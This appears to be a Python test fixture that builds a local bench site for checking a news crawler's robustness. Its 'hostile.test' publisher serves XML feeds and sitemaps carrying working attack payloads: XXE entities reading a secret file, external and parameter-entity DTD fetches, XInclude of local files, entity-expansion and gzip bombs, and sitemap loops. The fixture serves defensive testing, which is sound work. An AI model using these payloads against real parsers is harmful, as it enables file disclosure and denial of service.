"""The robust site: a bench site with hostile publishers added, and its sources.

A normal publisher (dailycourier.test, whose every article must be archived whatever else
goes wrong), the bench's bad-inputs publisher, and two more written here: ``faultfeed.test``
(a feed whose articles are the server's fault routes) and ``hostile.test`` (feeds and
sitemaps that try to read a secret file, fetch a DTD, expand entities or loop).
"""

from __future__ import annotations

import gzip
from dataclasses import dataclass
from pathlib import Path

from robustkit import Crawl, SiteServer

from archive import Source
from newsdesk.benchsites import bench_sources

SITE = ("--publishers", "1", "--articles", "12", "--seed", "5")
SETTINGS = {"download_delay": 0.0, "concurrency_per_host": 8, "timeout": 3.0}

#: Fault routes polled as feeds, and fetched as articles (with ``as=page`` added, so that the
#: two are different URLs): route -> the error kind recorded.
FAULT_ROUTES = {
    "slow?delay=8": "timeout",
    "hang?max_s=30": "timeout",
    "trickle?seconds=30&bytes=20000": "timeout",
    "reset": "connection",
    "reset-mid": "truncated",
    "truncated": "truncated",
    "status/500": "http",
    "status/503?retry_after=1": "http",
    "redirect-loop": "redirect-loop",
    "redirect-chain/15": "redirects",
    "gzip-bomb?mb=1024": "too-large",
    "bad-gzip": "bad-encoding",
    "endless?chunk=65536&max_s=60": "too-large",
}
#: Routes that answer in the end (slowly, or after redirects): as feeds they are not feeds,
#: as articles they are not articles.
ANSWERING_ROUTES = ("slow?delay=1", "redirect-chain/3")


def as_page(route: str) -> str:
    return route + ("&" if "?" in route else "?") + "as=page"


def rss(items: list[str], head: str = "", title: str = "faults") -> str:
    links = "".join(f"<item><title>{i}</title><link>{i}</link></item>" for i in items)
    return (
        f'{head}<rss version="2.0"><channel><title>{title}</title>'
        f"<link>http://site.invalid/</link>{links}</channel></rss>"
    )


def _urlset(body: str, head: str = "") -> str:
    return f'{head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</urlset>'


def _index(children: list[str]) -> str:
    body = "".join(f"<sitemap><loc>http://site.invalid/hostile.test/sitemaps/{c}</loc></sitemap>"
                   for c in children)  # fmt: skip
    return (
        f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</sitemapindex>'
    )


PAD = "<!-- " + "x" * 70_000 + " -->\n"  # longer than any look at the start of a document
BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


def hostile_files(secret: Path) -> dict[str, str | bytes]:
    """Feeds and sitemaps of hostile.test; each tries to put ``secret``'s content (or a
    file's, or an entity expansion) into what the crawler reads."""
    xxe = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{secret}">]>'
    dtd = '<!DOCTYPE rss SYSTEM "http://site.invalid/hostile.test/evil.dtd">'
    param = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://site.invalid/hostile.test/evil.dtd"> %p;]>'
    item = ["http://site.invalid/hostile.test/news/&x;.html"]
    xinclude = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
    loc = "<url><loc>http://site.invalid/hostile.test/news/{}.html</loc></url>"
    return {
        "index.html": "<html><body><h1>Hostile</h1></body></html>",
        "evil.dtd": f'<!ENTITY x SYSTEM "file://{secret}">',
        "feeds/xxe.xml": rss(item, xxe, "&x;"),
        "feeds/xxe-padded.xml": rss(item, PAD + xxe, "&x;"),
        "feeds/bomb-padded.xml": rss(["http://site.invalid/hostile.test/news/&i;"], PAD + BOMB),
        "feeds/external-dtd.xml": rss(item, dtd, "&x;"),
        "feeds/parameter-entity.xml": rss(item, param, "&x;"),
        "feeds/xinclude.xml": rss(["http://site.invalid/hostile.test/news/x.html"], "", xinclude),
        "sitemaps/xxe.xml": _urlset(loc.format("&x;"), xxe.replace("rss", "urlset")),
        "sitemaps/external-dtd.xml": _urlset(loc.format("&x;"), dtd.replace("rss", "urlset")),
        "sitemaps/xinclude.xml": _urlset(loc.format(xinclude)),
        "sitemaps/bomb.xml.gz": gzip.compress(_urlset(" " * 60_000_000).encode(), 9),
        "sitemaps/self.xml": _index(["self.xml"]),
        **{f"sitemaps/deep-{n}.xml": _index([f"deep-{n + 1}.xml"]) for n in range(1, 7)},
        "sitemaps/deep-7.xml": _urlset(loc.format("deep")),
    }


HOSTILE_FEEDS = ("xxe.xml", "xxe-padded.xml", "bomb-padded.xml", "external-dtd.xml",
                 "parameter-entity.xml", "xinclude.xml")  # fmt: skip
HOSTILE_SITEMAPS = ("xxe.xml", "external-dtd.xml", "xinclude.xml", "bomb.xml.gz", "self.xml",
                    "deep-1.xml")  # fmt: skip


@dataclass
class RobustSite:
    server: SiteServer
    secret: str  # the secret file's content: it must never reach the archive
    dir: Path

    @property
    def base(self) -> str:
        return self.server.base


def robust_sources(site: RobustSite) -> list[Source]:
    base = site.base
    routes = [*FAULT_ROUTES, *ANSWERING_ROUTES]
    return [
        *bench_sources(site.dir, base, include=("dailycourier.test", "badinputs.test")),
        Source(
            id="faults",
            name="Fault routes as feeds",
            url=f"{base}/_fault/",
            feeds=tuple(f"{base}/_fault/{r}" for r in routes),
        ),
        Source(
            id="faultpages",
            name="Fault routes as articles",
            url=f"{base}/faultfeed.test/",
            feeds=(f"{base}/faultfeed.test/articles.rss",),
        ),
        Source(
            id="hostile",
            name="Hostile feeds and sitemaps",
            url=f"{base}/hostile.test/",
            feeds=tuple(f"{base}/hostile.test/feeds/{f}" for f in HOSTILE_FEEDS),
            sitemaps=tuple(f"{base}/hostile.test/sitemaps/{s}" for s in HOSTILE_SITEMAPS),
        ),
    ]


@dataclass
class RobustCrawl:
    site: RobustSite
    work: Path
    crawl: Crawl
    log: list[dict[str, object]]

    @property
    def archive(self) -> Path:
        return self.work / "archive.db"
